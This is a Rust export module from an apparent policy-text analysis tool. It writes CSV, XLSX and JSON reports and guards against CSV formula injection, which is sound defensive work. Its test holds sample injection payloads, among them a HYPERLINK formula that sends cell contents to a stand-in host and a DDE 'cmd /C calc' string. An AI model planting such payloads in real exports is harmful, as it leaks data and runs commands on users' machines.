//! The files a user saves: CSV tables, an XLSX workbook, the JSON report.
//!
//! Researchers open exports in Excel or WPS, which read a CSV as the local ANSI code page
//! unless it starts with a byte-order mark — so every CSV here is UTF-8 *with* BOM, CRLF
//! line ends and RFC 4180 quoting (a sentence with a comma, a quote or a line break stays
//! one cell). The same tables (documents, measures, matrix, slogans, figures) are the
//! sheets of the workbook, so the two never disagree. Measures the user corrected carry
//! `recategorized` or `added` in the `correction` column. A CSV text cell that starts like a
//! formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a `'` in front, so that a
//! spreadsheet shows it as text (the workbook stores every text as a string). The JSON is the report of
//! `spec/report.md`, indented. Nothing here panics: an XLSX failure is an [`ExportError`].

use super::model::category_label as label;
use rust_xlsxwriter::{Format, Workbook};

use super::model::{DocumentReport, Measure, Report, TaxonomyEntry};

/// The UTF-8 byte-order mark every CSV starts with.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Columns of the measures table.
pub const MEASURE_COLUMNS: [&str; 20] = [
    "document_id",
    "file_name",
    "title",
    "date",
    "place",
    "measure_id",
    "category_id",
    "category_label",
    "instrument",
    "text",
    "sentence",
    "start",
    "end",
    "slogans",
    "figures",
    "deadline",
    "actors",
    "correction",
    "confidence",
    "origin",
];

/// Columns of the documents table.
pub const DOCUMENT_COLUMNS: [&str; 19] = [
    "document_id",
    "file_name",
    "title",
    "date",
    "place",
    "places",
    "kind",
    "issuer",
    "doc_number",
    "source",
    "reporter",
    "encoding",
    "script",
    "characters",
    "measures",
    "corrected_measures",
    "slogans",
    "figures",
    "warnings",
];

/// Columns of the slogans table.
pub const SLOGAN_COLUMNS: [&str; 8] = [
    "document_id",
    "file_name",
    "slogan",
    "count",
    "items",
    "count_mismatch",
    "start",
    "end",
];

/// Columns of the figures table.
pub const FIGURE_COLUMNS: [&str; 9] = [
    "document_id",
    "file_name",
    "value",
    "unit",
    "text",
    "qualifier",
    "subject",
    "start",
    "end",
];

/// The longest text a spreadsheet cell holds (Excel's limit, in chars).
const CELL_MAX: usize = 32_767;

/// Separator of list values inside one cell.
const LIST_SEP: &str = "；";

/// Why an export failed.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ExportError {
    #[error("无法生成 Excel 文件（{0}） / The Excel workbook could not be written ({0})")]
    Xlsx(String),
}

impl crate::error::Bilingual for ExportError {
    fn kind(&self) -> &'static str {
        match self {
            ExportError::Xlsx(_) => "xlsx_failed",
        }
    }
}

impl From<rust_xlsxwriter::XlsxError> for ExportError {
    fn from(e: rust_xlsxwriter::XlsxError) -> Self {
        ExportError::Xlsx(e.to_string())
    }
}

/// One cell of a table.
#[derive(Clone, Debug, PartialEq)]
enum Cell {
    Text(String),
    Number(f64),
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV
/// injection): `=`, `+`, `-`, `@`, tab and carriage return.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as a spreadsheet shows it as text: one starting like a formula gets a `'`
/// in front (titles, names, places and measures come from article content, and a crafted
/// article must not put `=HYPERLINK(…)` into a researcher's sheet).
pub fn neutralize(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

impl Cell {
    /// The cell as written in a CSV: text neutralized ([`neutralize`]); numbers, which the
    /// exporter writes itself, as numbers.
    fn csv(&self) -> String {
        match self {
            Cell::Text(s) => neutralize(s).into_owned(),
            Cell::Number(n) => n.to_string(),
        }
    }
}

fn text(s: impl Into<String>) -> Cell {
    Cell::Text(s.into())
}

fn opt(s: &Option<String>) -> Cell {
    Cell::Text(s.clone().unwrap_or_default())
}

fn num(n: impl Into<f64>) -> Cell {
    Cell::Number(n.into())
}

fn count(n: usize) -> Cell {
    Cell::Number(n as f64)
}

/// A table: its sheet name, header and rows.
struct Table {
    name: &'static str,
    header: Vec<String>,
    rows: Vec<Vec<Cell>>,
}

fn measure_row(doc: &DocumentReport, m: &Measure, taxonomy: &[TaxonomyEntry]) -> Vec<Cell> {
    vec![
        text(&doc.id),
        text(&doc.name),
        opt(&doc.meta.title),
        text(doc.meta.date.display()),
        opt(&doc.meta.place),
        text(&m.id),
        text(&m.category),
        text(label(taxonomy, &m.category)),
        text(&m.instrument),
        text(&m.text),
        text(&m.sentence),
        count(m.start),
        count(m.end),
        text(m.slogans.join(LIST_SEP)),
        text(
            m.figures
                .iter()
                .map(|f| f.text.as_str())
                .collect::<Vec<_>>()
                .join(LIST_SEP),
        ),
        opt(&m.deadline),
        text(m.actors.join(LIST_SEP)),
        opt(&m.correction),
        num((f64::from(m.confidence) * 1000.0).round() / 1000.0),
        opt(&m.origin),
    ]
}

fn measures_table(report: &Report, taxonomy: &[TaxonomyEntry]) -> Table {
    let rows = report
        .documents
        .iter()
        .flat_map(|d| d.measures.iter().map(move |m| measure_row(d, m, taxonomy)))
        .collect();
    Table {
        name: "measures",
        header: MEASURE_COLUMNS.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

fn documents_table(report: &Report) -> Table {
    let rows = report
        .documents
        .iter()
        .map(|d| {
            vec![
                text(&d.id),
                text(&d.name),
                opt(&d.meta.title),
                text(d.meta.date.display()),
                opt(&d.meta.place),
                text(d.meta.places.join(LIST_SEP)),
                opt(&d.meta.kind),
                text(d.meta.issuer.join(LIST_SEP)),
                opt(&d.meta.doc_number),
                opt(&d.meta.source),
                opt(&d.meta.reporter),
                text(&d.encoding),
                text(&d.script),
                count(d.text.chars().count()),
                count(d.measures.len()),
                count(d.measures.iter().filter(|m| m.correction.is_some()).count()),
                count(d.slogans.len()),
                count(d.figures.len()),
                text(d.warnings.join(LIST_SEP)),
            ]
        })
        .collect();
    Table {
        name: "documents",
        header: DOCUMENT_COLUMNS.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

/// Category rows (taxonomy order, then any other category measured), a column per
/// document (headed by its id) and a total column; a last row of totals.
fn matrix_table(report: &Report, taxonomy: &[TaxonomyEntry]) -> Table {
    let mut header: Vec<String> = ["category_id", "category_label", "instrument"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    header.extend(report.documents.iter().map(|d| d.id.clone()));
    header.push("total".into());
    let mut ids: Vec<String> = taxonomy.iter().map(|e| e.id.clone()).collect();
    for id in report.comparison.matrix.keys() {
        if !ids.contains(id) {
            ids.push(id.clone());
        }
    }
    let mut column_totals = vec![0u32; report.documents.len()];
    let mut rows: Vec<Vec<Cell>> = ids
        .iter()
        .map(|id| {
            let row = report.comparison.matrix.get(id);
            let counts: Vec<u32> = report
                .documents
                .iter()
                .map(|d| row.and_then(|r| r.get(&d.id)).copied().unwrap_or(0))
                .collect();
            for (t, c) in column_totals.iter_mut().zip(&counts) {
                *t += c;
            }
            let instrument = super::model::category_instrument(taxonomy, id);
            let mut cells = vec![text(id), text(label(taxonomy, id)), text(instrument)];
            cells.extend(counts.iter().map(|&c| num(c)));
            cells.push(num(counts.iter().sum::<u32>()));
            cells
        })
        .collect();
    let mut total = vec![text("total"), text("合计"), text("")];
    total.extend(column_totals.iter().map(|&c| num(c)));
    total.push(num(column_totals.iter().sum::<u32>()));
    rows.push(total);
    Table {
        name: "matrix",
        header,
        rows,
    }
}

fn slogans_table(report: &Report) -> Table {
    let rows = report
        .documents
        .iter()
        .flat_map(|d| {
            d.slogans.iter().map(move |s| {
                vec![
                    text(&d.id),
                    text(&d.name),
                    text(&s.text),
                    s.count.map_or_else(|| text(""), num),
                    text(s.items.join(LIST_SEP)),
                    text(if s.count_mismatch { "true" } else { "false" }),
                    count(s.start),
                    count(s.end),
                ]
            })
        })
        .collect();
    Table {
        name: "slogans",
        header: SLOGAN_COLUMNS.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

fn figures_table(report: &Report) -> Table {
    let rows = report
        .documents
        .iter()
        .flat_map(|d| {
            d.figures.iter().map(move |f| {
                vec![
                    text(&d.id),
                    text(&d.name),
                    if f.value.is_finite() {
                        num(f.value)
                    } else {
                        text("")
                    },
                    text(&f.unit),
                    text(&f.text),
                    opt(&f.qualifier),
                    opt(&f.subject),
                    count(f.start),
                    count(f.end),
                ]
            })
        })
        .collect();
    Table {
        name: "figures",
        header: FIGURE_COLUMNS.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

/// A table as CSV: BOM, CRLF, quoting where needed.
fn csv_bytes(table: &Table) -> Vec<u8> {
    let mut out = BOM.to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(&mut out);
        // Writing to a Vec cannot fail; a failed record is left out rather than panicking.
        let _ = w.write_record(&table.header);
        for row in &table.rows {
            let _ = w.write_record(row.iter().map(Cell::csv));
        }
        let _ = w.flush();
    }
    out
}

/// The measures, one row each: `MEASURE_COLUMNS`.
pub fn measures_csv(report: &Report, taxonomy: &[TaxonomyEntry]) -> Vec<u8> {
    csv_bytes(&measures_table(report, taxonomy))
}

/// The documents, one row each: `DOCUMENT_COLUMNS`.
pub fn documents_csv(report: &Report) -> Vec<u8> {
    csv_bytes(&documents_table(report))
}

/// The category × document matrix with totals.
pub fn matrix_csv(report: &Report, taxonomy: &[TaxonomyEntry]) -> Vec<u8> {
    csv_bytes(&matrix_table(report, taxonomy))
}

/// The slogans, one row each: `SLOGAN_COLUMNS`.
pub fn slogans_csv(report: &Report) -> Vec<u8> {
    csv_bytes(&slogans_table(report))
}

/// The figures, one row each: `FIGURE_COLUMNS`.
pub fn figures_csv(report: &Report) -> Vec<u8> {
    csv_bytes(&figures_table(report))
}

/// A workbook with the sheets documents, measures, matrix, slogans and figures (labels
/// from the report's own taxonomy).
pub fn xlsx(report: &Report) -> Result<Vec<u8>, ExportError> {
    let tables = [
        documents_table(report),
        measures_table(report, &report.taxonomy),
        matrix_table(report, &report.taxonomy),
        slogans_table(report),
        figures_table(report),
    ];
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    for table in &tables {
        let sheet = workbook.add_worksheet();
        sheet.set_name(table.name)?;
        for (c, h) in table.header.iter().enumerate() {
            let c = u16::try_from(c).map_err(|e| ExportError::Xlsx(e.to_string()))?;
            sheet.write_string_with_format(0, c, h, &bold)?;
            sheet.set_column_width(c, 14)?;
        }
        for (r, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(r + 1).map_err(|e| ExportError::Xlsx(e.to_string()))?;
            for (c, cell) in row.iter().enumerate() {
                let c = c as u16;
                match cell {
                    Cell::Text(s) if s.is_empty() => {}
                    Cell::Text(s) if s.chars().count() > CELL_MAX => {
                        let cut: String = s.chars().take(CELL_MAX).collect();
                        sheet.write_string(r, c, cut)?;
                    }
                    Cell::Text(s) => {
                        sheet.write_string(r, c, s)?;
                    }
                    Cell::Number(n) => {
                        sheet.write_number(r, c, *n)?;
                    }
                }
            }
        }
        sheet.set_freeze_panes(1, 0)?;
        if !table.rows.is_empty() && !table.header.is_empty() {
            sheet.autofilter(
                0,
                0,
                table.rows.len() as u32,
                (table.header.len() - 1) as u16,
            )?;
        }
    }
    Ok(workbook.save_to_buffer()?)
}

/// The report of `spec/report.md`, indented.
pub fn json(report: &Report) -> Vec<u8> {
    serde_json::to_vec_pretty(report).unwrap_or_default()
}

#[cfg(test)]
pub(crate) mod tests {
    use std::io::Read;

    use super::*;
    use crate::corpus::Corpus;
    use crate::corrections::Correction;
    use crate::examples::EXAMPLES;
    use crate::pipeline::Input;

    /// A hand-made document with one measure spanning the whole text.
    pub fn tiny_doc(id: &str, body: &str) -> DocumentReport {
        let len = body.chars().count();
        DocumentReport {
            id: id.into(),
            name: format!("{id}.txt"),
            encoding: "UTF-8".into(),
            script: "simplified".into(),
            text: body.into(),
            measures: vec![Measure {
                id: format!("{id}-m1"),
                text: body.into(),
                sentence: body.into(),
                end: len,
                category: "labor".into(),
                categories: vec!["labor".into()],
                instrument: "supply".into(),
                confidence: 1.0,
                ..Measure::default()
            }],
            ..DocumentReport::default()
        }
    }

    fn seeds_corrected() -> (Corpus, Report) {
        let mut corpus = Corpus::new();
        for (name, bytes) in EXAMPLES {
            assert!(corpus.add(&Input::new(name, bytes))[0].is_ok());
        }
        let first = corpus.report().documents[0].measures[0].clone();
        corpus
            .correct(Correction::Recategorize {
                doc_id: "d1".into(),
                measure_id: first.id,
                category: "fiscal".into(),
            })
            .unwrap();
        let report = corpus.report();
        (corpus, report)
    }

    fn read(bytes: &[u8]) -> (Vec<String>, Vec<csv::StringRecord>) {
        assert!(bytes.starts_with(BOM), "starts with the UTF-8 BOM");
        let mut r = csv::ReaderBuilder::new().from_reader(&bytes[BOM.len()..]);
        let header = r.headers().unwrap().iter().map(String::from).collect();
        let rows = r.records().collect::<Result<Vec<_>, _>>().unwrap();
        (header, rows)
    }

    #[test]
    fn measures_csv_has_bom_crlf_columns_and_chinese_intact() {
        let (_, report) = seeds_corrected();
        let bytes = measures_csv(&report, &report.taxonomy);
        assert_eq!(&bytes[..3], [0xEF, 0xBB, 0xBF]);
        let first_line_end = bytes.windows(2).position(|w| w == b"\r\n").unwrap();
        assert!(!bytes[..first_line_end].contains(&b'\n'));
        let (header, rows) = read(&bytes);
        assert_eq!(header, MEASURE_COLUMNS);
        let total: usize = report.documents.iter().map(|d| d.measures.len()).sum();
        assert_eq!(rows.len(), total);
        let col = |name: &str| MEASURE_COLUMNS.iter().position(|c| *c == name).unwrap();
        for (row, m) in rows
            .iter()
            .zip(report.documents.iter().flat_map(|d| d.measures.iter()))
        {
            assert_eq!(&row[col("measure_id")], m.id);
            assert_eq!(&row[col("text")], m.text, "Chinese text intact");
            assert_eq!(&row[col("sentence")], m.sentence);
            assert_eq!(row[col("start")].parse::<usize>().unwrap(), m.start);
        }
        let corrected: Vec<&csv::StringRecord> = rows
            .iter()
            .filter(|r| !r[col("correction")].is_empty())
            .collect();
        assert_eq!(corrected.len(), 1);
        assert_eq!(&corrected[0][col("correction")], "recategorized");
        assert_eq!(&corrected[0][col("category_id")], "fiscal");
        assert_eq!(&corrected[0][col("category_label")], "财税减负");
        assert!(rows.iter().any(|r| r[col("place")].contains('市')));
    }

    #[test]
    fn cells_from_article_content_never_start_a_formula() {
        // Every text field of the export filled with formula starts, as a crafted article
        // (or its file name) would make them.
        let attacks = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
        ];
        let mut documents = Vec::new();
        for (i, attack) in attacks.iter().enumerate() {
            let mut doc = tiny_doc(
                &format!("d{}", i + 1),
                &format!("{attack}推动企业复工复产。"),
            );
            doc.name = format!("{attack}.txt");
            doc.meta.title = Some(attack.to_string());
            doc.meta.place = Some(attack.to_string());
            doc.meta.places = vec![attack.to_string()];
            doc.meta.source = Some(attack.to_string());
            doc.meta.reporter = Some(attack.to_string());
            doc.warnings = vec![attack.to_string()];
            let m = &mut doc.measures[0];
            m.text = attack.to_string();
            m.sentence = attack.to_string();
            m.slogans = vec![attack.to_string()];
            m.deadline = Some(attack.to_string());
            m.actors = vec![attack.to_string()];
            m.figures = vec![crate::model::Figure {
                value: -3.0,
                unit: attack.to_string(),
                text: attack.to_string(),
                qualifier: Some(attack.to_string()),
                subject: Some(attack.to_string()),
                start: 0,
                end: 1,
            }];
            doc.figures = m.figures.clone();
            doc.slogans = vec![crate::model::Slogan {
                text: attack.to_string(),
                count: None,
                items: vec![attack.to_string()],
                count_mismatch: false,
                start: 0,
                end: 1,
            }];
            documents.push(doc);
        }
        let report = Report {
            version: 1,
            taxonomy: crate::taxonomy::Taxonomy::default().entries(),
            documents,
            comparison: Default::default(),
            errors: vec![],
        };
        let files = [
            ("measures", measures_csv(&report, &report.taxonomy)),
            ("documents", documents_csv(&report)),
            ("matrix", matrix_csv(&report, &report.taxonomy)),
            ("slogans", slogans_csv(&report)),
            ("figures", figures_csv(&report)),
        ];
        let mut neutralized = 0;
        for (name, bytes) in &files {
            let (header, rows) = read(bytes);
            assert!(!rows.is_empty(), "{name}");
            for row in &rows {
                for (cell, column) in row.iter().zip(&header) {
                    // What a spreadsheet reads: a cell that starts like a formula must be
                    // text the exporter wrote itself as a number (the figures' values).
                    if cell.starts_with(FORMULA_START) {
                        assert!(
                            column == "value" && cell.parse::<f64>().is_ok(),
                            "{name}.{column}: {cell:?}"
                        );
                    }
                    if cell.starts_with('\'') {
                        neutralized += 1;
                        assert!(cell[1..].starts_with(FORMULA_START), "{cell:?}");
                    }
                }
            }
        }
        assert!(neutralized >= 5 * attacks.len(), "{neutralized}");
        // Numbers stay numbers: the figure's value is written as -3, and counts as counts.
        let (header, rows) = read(&files[4].1);
        let value = header.iter().position(|h| h == "value").unwrap();
        assert_eq!(&rows[0][value], "-3");
        // A cell that only contains such a character later is left as written.
        assert_eq!(neutralize("a=b"), "a=b");
        assert_eq!(neutralize("=1"), "'=1");
    }

    #[test]
    fn commas_quotes_and_line_breaks_stay_in_one_cell() {
        let mut doc = tiny_doc("d1", "要求企业“点对点,一站式”返岗，\n做到\"应返尽返\"。");
        doc.measures[0].slogans = vec!["一企一策".into(), "五个一".into()];
        let report = Report {
            version: 1,
            taxonomy: crate::taxonomy::Taxonomy::default().entries(),
            documents: vec![doc.clone()],
            comparison: Default::default(),
            errors: vec![],
        };
        let bytes = measures_csv(&report, &report.taxonomy);
        let (_, rows) = read(&bytes);
        assert_eq!(rows.len(), 1);
        assert_eq!(&rows[0][9], doc.text);
        assert_eq!(&rows[0][13], "一企一策；五个一");
        assert_eq!(&rows[0][7], "用工保障");
        let raw = String::from_utf8(bytes).unwrap();
        assert!(
            raw.contains("\"要求企业“点对点,一站式”返岗，\n做到\"\"应返尽返\"\"。\""),
            "{raw}"
        );
    }

    #[test]
    fn documents_and_matrix_csv() {
        let (_, report) = seeds_corrected();
        let (header, rows) = read(&documents_csv(&report));
        assert_eq!(header, DOCUMENT_COLUMNS);
        assert_eq!(rows.len(), 5);
        assert_eq!(&rows[0][0], "d1");
        let col = |name: &str| DOCUMENT_COLUMNS.iter().position(|c| *c == name).unwrap();
        assert_eq!(
            &rows[0][col("corrected_measures")],
            "1",
            "one corrected measure"
        );
        assert!(
            rows.iter().all(|r| !r[col("kind")].is_empty()),
            "every seed has a kind"
        );
        assert!(rows.iter().any(|r| !r[col("issuer")].is_empty()));
        assert!(rows
            .iter()
            .any(|r| r[2].chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c))));

        let (header, rows) = read(&matrix_csv(&report, &report.taxonomy));
        assert_eq!(
            &header[..3],
            ["category_id", "category_label", "instrument"]
        );
        assert_eq!(&header[3..8], ["d1", "d2", "d3", "d4", "d5"]);
        assert_eq!(header[8], "total");
        assert_eq!(rows.len(), report.taxonomy.len() + 1);
        let fiscal = rows.iter().find(|r| &r[0] == "fiscal").unwrap();
        assert_eq!(&fiscal[1], "财税减负");
        assert_eq!(
            fiscal[3].parse::<u32>().unwrap(),
            report.comparison.matrix["fiscal"]["d1"]
        );
        let total = rows.last().unwrap();
        let measures: usize = report.documents.iter().map(|d| d.measures.len()).sum();
        assert_eq!(total[8].parse::<usize>().unwrap(), measures);
        assert!(slogans_csv(&report).starts_with(BOM) && figures_csv(&report).starts_with(BOM));
    }

    fn zip_entry(bytes: &[u8], name: &str) -> String {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a valid zip");
        let mut out = String::new();
        archive
            .by_name(name)
            .expect(name)
            .read_to_string(&mut out)
            .unwrap();
        out
    }

    #[test]
    fn xlsx_is_a_workbook_of_five_named_sheets() {
        let (_, report) = seeds_corrected();
        let bytes = xlsx(&report).unwrap();
        assert!(bytes.starts_with(b"PK"));
        let workbook = zip_entry(&bytes, "xl/workbook.xml");
        for name in ["documents", "measures", "matrix", "slogans", "figures"] {
            assert!(
                workbook.contains(&format!("name=\"{name}\"")),
                "{name} in {workbook}"
            );
        }
        let strings = zip_entry(&bytes, "xl/sharedStrings.xml");
        let m = &report.documents[0].measures[1];
        let escaped = m
            .text
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;");
        assert!(
            strings.contains(&escaped) || strings.contains(&m.text),
            "{} in sharedStrings",
            m.text
        );
        assert!(strings.contains("recategorized"));
        let slogan = &report
            .documents
            .iter()
            .flat_map(|d| &d.slogans)
            .next()
            .expect("a seed slogan")
            .text;
        assert!(strings.contains(slogan.as_str()));
        // An empty report still makes a valid workbook.
        let empty = Report {
            documents: vec![],
            ..report.clone()
        };
        assert!(zip_entry(&xlsx(&empty).unwrap(), "xl/workbook.xml").contains("figures"));
    }

    #[test]
    fn json_is_the_report_contract() {
        let (_, report) = seeds_corrected();
        let bytes = json(&report);
        let back: Report = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(back.documents.len(), report.documents.len());
        for (a, b) in back.documents.iter().zip(&report.documents) {
            assert_eq!(
                (&a.name, &a.text, &a.meta.title),
                (&b.name, &b.text, &b.meta.title)
            );
            assert_eq!(
                a.measures
                    .iter()
                    .map(|m| (&m.text, m.start, &m.correction))
                    .collect::<Vec<_>>(),
                b.measures
                    .iter()
                    .map(|m| (&m.text, m.start, &m.correction))
                    .collect::<Vec<_>>()
            );
        }
        assert_eq!(back.comparison.matrix, report.comparison.matrix);
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("\n  \"documents\": ["));
        assert!(text.contains("\"correction\": \"recategorized\""));
    }
}
